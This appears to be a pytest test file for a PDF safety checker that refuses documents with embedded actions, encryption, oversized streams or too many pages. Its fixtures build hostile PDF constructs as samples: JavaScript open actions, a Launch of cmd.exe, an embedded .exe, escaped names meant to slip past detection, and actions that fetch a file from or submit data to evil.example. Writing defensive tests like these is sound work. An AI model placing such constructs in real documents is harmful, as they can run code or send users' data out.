"""A PDF that acts is refused, however it hides what it does."""

from __future__ import annotations

import io
import time

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tambon_showcase.content.document_rules import UnsafeDocumentError
from tambon_showcase.content.pdf_guard import MAX_STREAM, read_pdf
from tests.content.papers import pdf, saved, swelling_pdf

SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
ACTS = {
    "open action": {"/OpenAction": SCRIPT},
    "launch": {"/OpenAction": Dictionary(S=Name.Launch, F=String("cmd.exe"))},
    "named script": {"/Names": Dictionary(JavaScript=Dictionary(Names=Array([String("x"), SCRIPT])))},
    "attachment": {
        "/Names": Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), Dictionary()])))
    },
    "form": {"/AcroForm": Dictionary(XFA=String("<x/>"))},
    "event": {"/AA": Dictionary(WC=SCRIPT)},
    "deep": {"/X": Array([Array([Dictionary(Y=Array([SCRIPT]))])])},
    "other file": {"/OpenAction": Dictionary(S=Name.GoToR, F=String("//evil.example/a.pdf"))},
    "send": {"/X": Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))},
}


def refused(data: bytes) -> str:
    with pytest.raises(UnsafeDocumentError) as problem:
        read_pdf(data)
    return problem.value.rule.code


@pytest.mark.parametrize("compress", [True, False])
@pytest.mark.parametrize("act", ACTS)
def test_acts_are_refused_in_plain_and_packed_objects(act: str, compress: bool) -> None:
    assert refused(pdf(root=ACTS[act], compress=compress)) == "T526"


def test_escaped_names_are_read() -> None:
    data = pdf(root=ACTS["launch"], compress=False).replace(b"/Launch", b"/L#61unch")
    assert refused(data) == "T526"


def test_an_act_on_a_page_or_a_stream_is_found() -> None:
    document = pikepdf.open(io.BytesIO(pdf()))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=SCRIPT, Rect=Array([0, 0, 9, 9]))
    document.pages[0].Annots = Array([document.make_indirect(link)])
    assert refused(saved(document)) == "T526"
    document = pikepdf.open(io.BytesIO(pdf()))
    document.Root.X = pikepdf.Stream(document, b"x", {"/Type": Name.EmbeddedFile})
    assert refused(saved(document)) == "T526"


def test_opening_at_a_page_and_web_links_are_no_acts() -> None:
    web = Dictionary(S=Name.URI, URI=String("https://www.cdd.go.th"))
    document = pikepdf.open(io.BytesIO(pdf("Plan", {"/X": web})))
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
    assert "Plan" in read_pdf(saved(document)).text


def test_a_locked_document_is_refused_and_an_openable_one_is_read() -> None:
    document = pikepdf.open(io.BytesIO(pdf("Plan")))
    assert refused(saved(document, encryption=pikepdf.Encryption(user="u", owner="o"))) == "T524"
    document = pikepdf.open(io.BytesIO(pdf("Plan")))
    assert "Plan" in read_pdf(saved(document, encryption=pikepdf.Encryption(user="", owner="o"))).text


def test_a_page_that_swells_is_refused_quickly() -> None:
    start = time.process_time()
    assert refused(swelling_pdf(MAX_STREAM // 1_000_000 + 20)) == "T527"
    assert time.process_time() - start < 3


def test_pages_are_counted() -> None:
    document = pikepdf.new()
    for _ in range(3):
        document.add_blank_page()
    assert read_pdf(saved(document)).pages == 3
    for _ in range(600):
        document.add_blank_page()
    assert refused(saved(document)) == "T528"


@pytest.mark.parametrize(
    "plain", [b"7", b"-1.25", b"null", b"true", b"(abc)", b"/Name", b"[1 null]", b"<<>>"]
)
def test_plain_values_may_be_objects_of_their_own(plain: bytes) -> None:
    """LibreOffice, cairo and Ghostscript write lengths and other numbers so."""
    start, end = saved(pikepdf.open(io.BytesIO(pdf("Plan"))), compress=False).split(b"xref\n", 1)
    data = start.replace(b"/Type /Catalog", b"/Kept 9 0 R /Type /Catalog")
    data += b"9 0 obj\n" + plain + b"\nendobj\nxref\n" + end
    assert b"/Kept 9 0 R" in data
    assert "Plan" in read_pdf(data).text
